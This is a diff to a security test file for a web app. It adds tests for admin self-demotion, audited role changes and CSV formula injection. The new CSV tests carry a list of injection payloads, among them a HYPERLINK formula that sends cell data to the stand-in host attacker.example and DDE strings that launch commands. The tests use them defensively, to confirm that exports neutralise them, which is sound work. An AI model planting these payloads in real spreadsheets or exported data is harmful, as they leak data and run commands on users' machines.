@@ -1,10 +1,13 @@
 // One test per finding of issue 14, each reproducing the attack and showing it refused:
 // a cross-origin POST with a checker's cookie, an API key on a page action, an invitation
 // hijacked by whoever registers the address first, an unverified account, better-auth's admin
-// and impersonation endpoints, a suspended account's keys, bidi characters in a mail subject.
+// and impersonation endpoints, the last admin demoting themselves, a role change without a
+// record of who made it, a suspended account's keys, bidi characters in a mail subject,
+// spreadsheet formulas typed into names that reach a CSV download.
 // (The throttle by form encoding is in brute-force.test.ts.)
 import { eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { warrenFixture } from "../report/warren-fixture";
 import { followVerificationLink, mailTo, makeJob, makeUser, PASSWORD, req, sessionCookie, setup } from "./helpers";
 
 let ctx: Awaited<ReturnType<typeof setup>>;
@@ -166,11 +169,28 @@ describe("better-auth's admin and impersonation endpoints", () => {
   it("the desk's own role change refuses the last admin's self-demotion and records who changed what", async () => {
     const { changeRole } = await import("~/lib/auth/users.server");
     const { listAudit } = await import("~/lib/auth/audit.server");
+    const { user } = await import("~/db/schema");
     const me = { id: ids.admin!, email: "admin.attack@wrenfield-struct.example", name: "A", role: "admin" as const, via: "session" as const };
     expect((await changeRole({ userId: ids.admin!, role: "viewer", by: me })).ok).toBe(false);
     expect((await changeRole({ userId: ids.viewer!, role: "checker", by: me })).ok).toBe(true);
     expect((await listAudit({ action: "user.role-change" }))[0]).toMatchObject({ actorId: ids.admin, entityId: ids.viewer, detail: { from: "viewer", to: "checker" } });
     await changeRole({ userId: ids.viewer!, role: "viewer", by: me });
+
+    // the same through the admin page, as a browser posts it: the only admin cannot demote
+    // themselves (the desk would have nobody left to manage it), and nothing is recorded
+    const page = await import("~/routes/admin.users");
+    const post = (fields: Record<string, string>) =>
+      call(page.action, req("/admin/users", { method: "POST", cookie: cookies.admin, body: new URLSearchParams(fields), headers: { "content-type": "application/x-www-form-urlencoded" } }));
+    const auditBefore = (await listAudit({ action: "user.role-change" })).length;
+    const refused = await post({ intent: "role", userId: ids.admin!, role: "engineer" });
+    expect(refused.status).toBe(400);
+    expect((await refused.json()).message).toMatch(/admin/i);
+    expect((await ctx.db.query.user.findFirst({ where: eq(user.id, ids.admin!) }))?.role).toBe("admin");
+    expect((await listAudit({ action: "user.role-change" })).length).toBe(auditBefore);
+    // a role change that goes through names who made it, from what to what
+    expect((await post({ intent: "role", userId: ids.engineer!, role: "checker" })).status).toBe(200);
+    expect((await listAudit({ action: "user.role-change" }))[0]).toMatchObject({ actorId: ids.admin, entityId: ids.engineer, detail: { from: "engineer", to: "checker" } });
+    expect((await post({ intent: "role", userId: ids.engineer!, role: "engineer" })).status).toBe(200);
   });
 });
 
@@ -198,5 +218,48 @@ describe("bidi characters in a mail subject", () => {
     const mail = await mailTo(ctx.services, "engineer.attack@wrenfield-struct.example", /Roof truss/);
     expect(mail.subject).toContain("Roof truss txt.exe rev B");
     expect(mail.subject).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/);
+  });
+});
+
+describe("spreadsheet formulas in CSV downloads", () => {
+  // the classic payloads (common practice: OWASP "CSV injection"): a formula that phones home,
+  // DDE command execution, and the other starts spreadsheets evaluate (+ - @ tab CR)
+  const PAYLOADS = ['=HYPERLINK("http://attacker.example/?"&A1,"details")', "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"];
+  const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
+  /** Cells a spreadsheet would evaluate, read back the way a spreadsheet program splits the file. */
+  async function liveFormulas(csv: string): Promise<string[]> {
+    const Papa = (await import("papaparse")).default;
+    const cells = Papa.parse<string[]>(csv.trim()).data.flat();
+    return cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !PLAIN_NUMBER.test(c));
+  }
+
+  it("member ids and groups typed as formulas reach the result CSV as text", async () => {
+    const { membersCsv } = await import("~/lib/results/result-csv");
+    const { toCsv } = await import("~/components/tables/csv");
+    const fx = warrenFixture({ panels: 4 });
+    fx.result.members.forEach((m, i) => {
+      m.id = `${PAYLOADS[i % PAYLOADS.length]}${i}`;
+      m.group = PAYLOADS[(i + 1) % PAYLOADS.length];
+    });
+    const table = membersCsv(fx.result);
+    const csv = toCsv(table.header, table.rows);
+    expect(await liveFormulas(csv)).toEqual([]);
+    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""details"")0"`); // kept, as text
+    expect(csv).toMatch(/,-?\d/); // negative forces and stresses stay numbers
+  });
+
+  it("node and member ids typed as formulas reach the model's table CSV as text", async () => {
+    const { modelToCsvFiles } = await import("~/lib/models/spreadsheet");
+    const fx = warrenFixture({ panels: 3 });
+    const base = fx.model as Required<typeof fx.model>;
+    const rename = new Map(base.nodes.map((n, i) => [n.id, `${PAYLOADS[i % PAYLOADS.length]}${i}`]));
+    const model = {
+      ...base,
+      nodes: base.nodes.map((n) => ({ ...n, id: rename.get(n.id)! })),
+      members: base.members.map((m) => ({ ...m, start: rename.get(m.start)!, end: rename.get(m.end)! })),
+      loadCases: base.loadCases.map((lc) => ({ ...lc, loads: lc.loads.map((l) => ({ ...l, node: rename.get(l.node)! })) })),
+    };
+    const files = modelToCsvFiles(model as never);
+    for (const name of ["nodes", "members", "loads"] as const) expect(await liveFormulas(files[name]), name).toEqual([]);
   });
 });
